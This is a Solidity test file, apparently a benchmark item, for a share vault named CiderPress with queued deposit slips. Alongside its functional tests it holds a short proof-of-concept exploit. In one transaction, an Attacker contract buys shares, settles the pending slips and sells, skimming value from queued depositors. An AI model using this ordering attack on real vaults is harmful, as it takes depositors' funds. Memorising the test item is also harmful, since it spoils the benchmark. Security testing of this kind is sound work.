// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-6e5a453a-0ad0-473d-8009-5d92154b6618

import "./CiderPress.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 2_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Holds coins and nothing else; all in one transaction.
contract Attacker {
    function pass(CiderPress press, Coin coin) external {
        uint256 coins = coin.balanceOf(address(this));
        coin.approve(address(press), coins);
        uint256 shares = press.buy(coins, 0);
        press.settle(10);
        press.sell(shares, 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADA = address(0xADA);
    address private constant BOB = address(0xB0B);
    address private constant CLEO = address(0xC1E0);

    Coin public coin;
    CiderPress public press;
    Attacker public passer;

    function setUp() public {
        coin = new Coin();
        press = new CiderPress(coin);
        coin.approve(address(press), type(uint256).max);
        _fund(ADA, 200_000e6);
        _fund(BOB, 100_000e6);
        _fund(CLEO, 100_000e6);
        // the first slip of all opens the pot
        vm.prank(ADA);
        press.drop(100_000e6);
        press.settle(1);
        vm.prank(BOB);
        press.drop(50_000e6);
        vm.prank(CLEO);
        press.drop(30_000e6);
        passer = new Attacker();
        coin.transfer(address(passer), 400_000e6);
    }

    function _fund(address who, uint256 amount) private {
        coin.transfer(who, amount);
        vm.prank(who);
        coin.approve(address(press), type(uint256).max);
    }

    function test_Regular() public {
        require(press.balanceOf(ADA) == 100_000e6 && press.worth() == 100_000e6 && press.boxed() == 80_000e6, "opened");
        vm.prank(BOB);
        press.takeBack(1);
        vm.prank(CLEO);
        press.takeBack(2);
        require(coin.balanceOf(BOB) == 100_000e6 && press.boxed() == 0, "taken back");
        press.bring(25_000e6);
        vm.prank(BOB);
        require(press.buy(50_000e6, 40_000e6) == 40_000e6, "bought at 1.25");
        require(press.worth() == 175_000e6 && press.sharesFor(5e6) == 4e6, "same price");
        vm.prank(ADA);
        press.transfer(CLEO, 60_000e6);
        vm.prank(CLEO);
        require(press.sell(60_000e6, 75_000e6) == 75_000e6, "sold");
        vm.prank(ADA);
        require(press.sell(40_000e6, 0) == 50_000e6, "sold too");
        vm.prank(BOB);
        require(press.sell(40_000e6, 0) == 50_000e6 && press.worth() == 0, "all gone");

        // Empty again; slips that were taken back are passed over.
        vm.prank(CLEO);
        require(press.drop(70_000e6) == 3, "fourth slip");
        press.settle(2);
        require(press.next() == 3 && press.boxed() == 70_000e6, "passed over");
        press.settle(5);
        require(press.balanceOf(CLEO) == 70_000e6 && press.next() == 4 && press.slipCount() == 4, "settled");
        press.transferOwnership(ADA);
        vm.prank(ADA);
        press.acceptOwnership();
        vm.prank(ADA);
        press.renounceOwnership();
        require(press.owner() == address(0), "no owner");
        vm.startPrank(CLEO);
        press.approve(BOB, 5e6);
        vm.stopPrank();
        vm.prank(BOB);
        press.transferFrom(CLEO, BOB, 5e6);
    }

    function test_RefusesAmounts() public {
        vm.expectRevert(abi.encodeWithSelector(CiderPress.TooSmall.selector, 1e6 - 1));
        press.buy(1e6 - 1, 0);
        vm.expectRevert(abi.encodeWithSelector(CiderPress.TooSmall.selector, 1e6 - 1));
        press.drop(1e6 - 1);
        vm.expectRevert(_text("too few"));
        press.buy(10e6, 10e6 + 1);
        vm.startPrank(ADA);
        vm.expectRevert(_text("too little"));
        press.sell(10e6, 10e6 + 1);
        vm.expectRevert(_text("nothing"));
        press.sell(0, 0);
        vm.stopPrank();
    }

    function test_RefusesSlips() public {
        vm.startPrank(ADA);
        vm.expectRevert(abi.encodeWithSelector(CiderPress.NotYours.selector, 1));
        press.takeBack(1);
        vm.expectRevert(abi.encodeWithSelector(CiderPress.Gone.selector, 0));
        press.takeBack(0);
        vm.stopPrank();
        vm.prank(BOB);
        press.takeBack(1);
        vm.prank(CLEO);
        press.takeBack(2);
        press.settle(2);
        require(press.totalSupply() == 100_000e6, "nothing made of them");
    }

    function test_RefusesEmptySlips() public {
        vm.prank(BOB);
        press.takeBack(1);
        vm.prank(CLEO);
        press.takeBack(2);
        vm.prank(ADA);
        press.sell(100_000e6, 0);
        press.settle(2);
        require(press.totalSupply() == 0 && press.next() == 3, "passed over");
    }

    function test_RefusesStrangers() public {
        vm.prank(ADA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ADA));
        press.bring(1e6);
        vm.prank(ADA);
        press.sell(100_000e6, 0);
        vm.expectRevert(_text("nobody there"));
        press.bring(1e6);
        vm.expectRevert(_text("no coin"));
        new CiderPress(IERC20(address(0)));
    }

    function _text(string memory reason) private pure returns (bytes memory) {
        return abi.encodeWithSignature("Error(string)", reason);
    }

    function exploit() public {
        passer.pass(press, coin);
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(passer));
        exploit();
        require(coin.balanceOf(address(passer)) >= before + 4_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(press);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
